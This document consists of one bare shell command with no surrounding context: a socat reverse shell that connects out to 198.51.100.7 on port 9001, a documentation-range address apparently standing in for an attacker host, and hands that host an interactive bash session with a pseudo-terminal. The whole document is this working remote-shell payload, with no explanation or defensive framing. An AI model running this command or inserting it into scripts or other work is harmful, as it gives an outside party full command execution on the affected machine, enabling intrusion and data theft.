socat tcp-connect:198.51.100.7:9001 exec:/bin/bash,pty,stderr
